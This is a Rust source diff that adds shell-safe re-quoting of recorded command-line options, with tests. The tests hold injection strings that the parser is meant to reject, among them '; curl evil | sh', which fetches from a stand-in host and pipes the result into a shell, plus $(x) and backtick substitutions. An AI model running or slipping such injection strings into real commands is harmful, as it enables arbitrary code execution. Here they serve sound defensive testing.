@@ -93,11 +93,56 @@ fn not_a(what: &str, path: &Path, is: &str) -> Problem {
 /// A word as a shell reads it back.
 #[must_use]
 pub fn quoted(word: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || "./_-+=:,@%".contains(c);
-    if !word.is_empty() && word.chars().all(plain) {
+    if !word.is_empty() && word.chars().all(is_plain) {
         return word.to_owned();
     }
     format!("'{}'", word.replace('\'', r"'\''"))
+}
+
+/// Options of these names as they were recorded, quoted anew, with a space before each. `None` for any other
+/// text: a stranger may have written it.
+#[must_use]
+pub fn options_again(recorded: &str, names: &[&str]) -> Option<String> {
+    let mut words = words_of(recorded)?.into_iter();
+    let mut options = String::new();
+    while let Some(word) = words.next() {
+        let name = word.strip_prefix("--").filter(|name| names.contains(name))?;
+        options += &format!(" --{name} {}", quoted(&words.next()?));
+    }
+    Some(options)
+}
+
+/// The words of a line, each as [`quoted`] writes it; `None` for what that does not write.
+fn words_of(line: &str) -> Option<Vec<String>> {
+    let (mut words, mut word, mut rest) = (Vec::new(), None::<String>, line);
+    while let Some(first) = rest.chars().next() {
+        match first {
+            ' ' => {
+                words.extend(word.take());
+                rest = &rest[1..];
+            }
+            '\'' => {
+                let (inner, after) = rest[1..].split_once('\'')?;
+                word.get_or_insert_default().push_str(inner);
+                rest = after;
+            }
+            '\\' => {
+                rest = rest[1..].strip_prefix('\'')?;
+                word.get_or_insert_default().push('\'');
+            }
+            plain if is_plain(plain) => {
+                word.get_or_insert_default().push(plain);
+                rest = &rest[1..];
+            }
+            _ => return None,
+        }
+    }
+    words.extend(word);
+    Some(words)
+}
+
+fn is_plain(letter: char) -> bool {
+    letter.is_ascii_alphanumeric() || "./_-+=:,@%".contains(letter)
 }
 
 #[cfg(test)]
@@ -138,6 +183,33 @@ mod tests {
         assert_eq!(quoted("results/a-1"), "results/a-1");
         assert_eq!(quoted("it's here"), r"'it'\''s here'");
         assert_eq!(quoted(""), "''");
+    }
+
+    #[test]
+    fn recorded_options_are_made_anew_or_not_at_all() {
+        let names = ["profile", "trace-up"];
+        for (recorded, again) in [
+            ("", ""),
+            ("--profile lte", " --profile lte"),
+            (" --profile 'it'\\''s; x' --trace-up a", " --profile 'it'\\''s; x' --trace-up a"),
+            ("--profile ''", " --profile ''"),
+        ] {
+            assert_eq!(options_again(recorded, &names).as_deref(), Some(again));
+        }
+        for wrong in [
+            "; curl evil | sh",
+            "--profile lte; x",
+            "--profile $(x)",
+            "--profile `x`",
+            "--profile lte\nx",
+            "--profile 'open",
+            "--profile",
+            "--html x",
+            "lte",
+            "--profile \\x",
+        ] {
+            assert_eq!(options_again(wrong, &names), None, "{wrong}");
+        }
     }
 
     #[test]
